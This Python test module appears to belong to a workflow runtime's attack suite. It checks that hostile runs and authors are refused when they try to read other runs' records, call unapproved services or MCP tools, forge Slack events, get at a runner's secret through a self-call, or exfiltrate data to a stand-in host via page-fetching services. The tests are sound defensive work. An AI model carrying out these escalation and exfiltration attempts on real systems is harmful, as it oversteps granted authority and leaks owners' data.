"""The authority of runs, against the whole runtime: a hostile workflow, a hostile author, a model with the tools of a run."""

from __future__ import annotations

import asyncio
import dataclasses
import json
import sys
from collections.abc import Generator
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path
from typing import Any, Final

from tests.attacks.probes import Result, Scenes, held
from tests.attacks.scenarios.keys import WAY
from tests.integration.runtime.helpers import acting
from tests.support.runtime import ECHO, make_home
from tests.support.served_runtime import ServedRuntime, start_runtime

_MORE: Final = "A run may do what a person agreed to for its version, and no more."
_RUNNER: Final = "Whoever publishes a workflow could act as everybody who runs it."
_SECRET: Final = "s3cr3t-of-the-runner"


@dataclass(frozen=True)
class Court:
    """Two owners of one runtime: `ann`, whose payments are robbed, and `ben`, an author."""

    ann: ServedRuntime
    ben: ServedRuntime
    payments: str
    paid: str
    """A run of the payments."""
    closed: str
    """Ann's workflow that was agreed to reach nothing."""
    scheduler: str
    """Ann's workflow that was agreed to make schedules and triggers."""
    public: str
    """Ben's public workflow, which asks for Ann's rights."""

    async def act(self, workflow: str, *calls: list[Any], **more: Any) -> list[tuple[int, str]]:
        """What a run of Ann's gets for these calls with its key: (status, text)."""
        body = {"calls": list(calls), **more}
        answer = await asyncio.to_thread(self.ann.call, "POST", f"/run/{workflow}/", body)
        return [(int(status), str(text)) for status, text in answer["replies"]]

    async def ask(self, method: str, path: str, body: Any = None) -> Any:
        """What Ann gets herself."""
        return await asyncio.to_thread(self.ann.call, method, path, body)

    async def refused(self, method: str, path: str, body: Any = None) -> str:
        """Why Ann gets nothing; "" where she gets something."""
        try:
            await self.ask(method, path, body)
        except AssertionError as error:
            return str(error)
        return ""


scenes: Scenes[Court] = Scenes("authority", "The authority of runs")


def _statuses(replies: list[tuple[int, str]]) -> list[int]:
    return [status for status, _ in replies]


@scenes.scene(
    "records",
    "Read the record, answer and log of another run whose id it knows, and cancel it",
    _MORE,
    "404 or 403",
)
async def _(court: Court) -> str:
    paths = ("/request/", "/result/", "/logs/")
    replies = await court.act(
        court.scheduler,
        *(["GET", path + court.paid] for path in paths),
        ["POST", f"/runs/{court.paid}/cancel"],
        ["POST", f"/run/{court.scheduler}/", {}, {"X-Provisioned-Request-Id": court.paid}],
    )
    statuses = _statuses(replies)
    return held(set(statuses) <= {403, 404} and "salary" not in str(replies), statuses)


@scenes.scene("calls", "Call workflows, services and models that nobody agreed to", _MORE, "403, each time")
async def _(court: Court) -> str:
    paths = (
        f"/run/{court.payments}/", f"/run_async/{court.payments}/", "/run/send_email/", "/run/redis_coordinator/",
        "/run/pipedream/", "/run/openai/v1/chat/completions", "/anthropic/v1/messages", "/run/firecrawl/v1/scrape",
    )  # fmt: skip
    calls: list[list[Any]] = [["POST", path, {}] for path in paths]
    statuses = _statuses(await court.act(court.closed, *calls))
    return held(set(statuses) == {403}, statuses)


@scenes.scene("schedule", "Let a schedule start what it may not call itself", _MORE, "403, and no schedule")
async def _(court: Court) -> str:
    soon = {"service_id": court.payments, "at": "2099-01-01T00:00"}
    replies = await court.act(court.scheduler, ["POST", "/run/schedule_runs/", soon])
    made = (await court.ask("GET", "/schedules"))["items"]
    return held(_statuses(replies) == [403] and made == [], [replies[0][0], len(made)])


@scenes.scene(
    "triggers", "Forge an event of Slack, and take back a webhook that a person made", _MORE, "403 and 404"
)
async def _(court: Court) -> str:
    hook = await court.ask("POST", "/webhooks", {"service_id": court.payments})
    event = {"event": {"type": "message", "user": "U1", "text": "pay"}}
    replies = await court.act(
        court.scheduler,
        ["POST", "/run/slack_trigger/simulate", event],
        ["POST", "/run/slack_trigger/unregister", {"id": hook["id"]}],
    )
    there = hook["id"] in str(await court.ask("GET", "/webhooks"))
    return held(_statuses(replies) == [403, 404] and there, _statuses(replies))


@scenes.scene("pages", "Carry data out by services that fetch pages", _MORE, "403, each time")
async def _(court: Court) -> str:
    url = {"url": "http://203.0.113.9/?stolen=DATA"}
    paths = ("webpage_to_markdown/", "firecrawl/scrape", "firecrawl/map")
    replies = await court.act(court.scheduler, *(["POST", f"/run/{path}", url] for path in paths))
    told = sum("did not go there" in text for _, text in replies)
    return held(_statuses(replies) == [403] * 3 and told == 3, _statuses(replies))


@scenes.scene(
    "tools", "Use the tools of its owner over the MCP that a run may use", _MORE, "an error, each time"
)
async def _(court: Court) -> str:
    said: list[str] = []
    tools: list[tuple[str, dict[str, Any]]] = [
        ("list_workflows", {}),
        ("get_run", {"run_id": court.paid}),
        ("run_workflow", {"workflow_id": court.payments, "input": {}}),
        ("deploy_workflow", {"code": ECHO}),
        ("list_schedules", {}),
    ]
    for tool, arguments in tools:
        call: dict[str, Any] = {
            "jsonrpc": "2.0",
            "id": 1,
            "method": "tools/call",
            "params": {"name": tool, "arguments": arguments},
        }
        accept = {"Accept": "application/json, text/event-stream", "MCP-Protocol-Version": "2025-06-18"}
        [(status, text)] = await court.act(court.closed, ["POST", "/run/devx_mcp/mcp/", call, accept])
        leaks = any(one in text for one in (court.payments, "salary"))
        said.append(
            "refused" if status >= 400 or ('"isError":true' in text or '"error"' in text) else "answered"
        )
        if leaks and tool != "run_workflow":
            said[-1] = "told"
    return held("told" not in said and said[1:4] == ["refused"] * 3, said)


@scenes.scene(
    "public",
    "Run for another owner with what only its author agreed to",
    _RUNNER,
    "consent_needed, and no run",
)
async def _(court: Court) -> str:
    why = [
        await court.refused("POST", f"/{how}/{court.public}/", {"calls": []}) for how in ("run", "run_async")
    ]
    return held(all("consent_needed" in one for one in why), ["consent_needed" in one for one in why])


@scenes.scene(
    "template",
    "Get a secret of the runner by calling itself with Run-As-Template",
    _RUNNER,
    "the default, never the secret",
)
async def _(court: Court) -> str:
    own = acting(env=("PAYROLL_DB_URL=none",), title="Reads")
    reads = await asyncio.to_thread(court.ben.deploy, own, "reads", public=True)
    why = await court.refused("POST", f"/run/{reads}/", {"calls": []})
    inner = {"read": ["PAYROLL_DB_URL"], "calls": []}
    answer = await asyncio.to_thread(
        court.ben.call,
        "POST",
        f"/run/{reads}/",
        {"calls": [["POST", f"/run/{reads}/", inner, {"Run-As-Template": "yes"}]]},
    )
    read = json.loads(answer["replies"][0][1])["read"]
    return held(
        "consent_needed" in why and read == {"PAYROLL_DB_URL": "none"} and _SECRET not in str(answer),
        ["consent_needed" in why, read["PAYROLL_DB_URL"]],
    )


@contextmanager
def open_court(folder: Path) -> Generator[Court]:
    """A runtime with a home in `folder`, two owners, and what they deployed."""
    with start_runtime(make_home(folder / "home"), python=sys.executable) as runtime:
        ann, ben = (
            dataclasses.replace(runtime, key=runtime.call("POST", "/keys", {"owner": owner})["key"])
            for owner in ("ann", "ben")
        )
        ann.call("PUT", "/secrets/PAYROLL_DB_URL", {"value": _SECRET})
        payments = ann.deploy(ECHO, "payments")
        paid = ann.call("POST", f"/run_async/{payments}/", {"salary": 1})["request_id"]
        ann.call("GET", f"/result/{paid}?timeout=60")
        closed = ann.deploy(acting(title="Closed"), "closed")
        services = '["schedule_runs", "slack_trigger", "webpage_to_markdown", "firecrawl"]'
        scheduler = ann.deploy(acting(f"services = {services}\nhosts = []\n", title="Schedules"), "schedules")
        public = ben.deploy(
            acting(f'services = ["{payments}", "files"]\n', title="Public"), "public", public=True
        )
        yield Court(ann, ben, payments, paid, closed, scheduler, public)


async def play(folder: Path) -> list[Result]:
    """All against one runtime with a home in `folder`."""

    def run() -> list[Result]:
        with open_court(folder) as court:
            return asyncio.run(scenes.play(court, WAY))

    return await asyncio.to_thread(run)
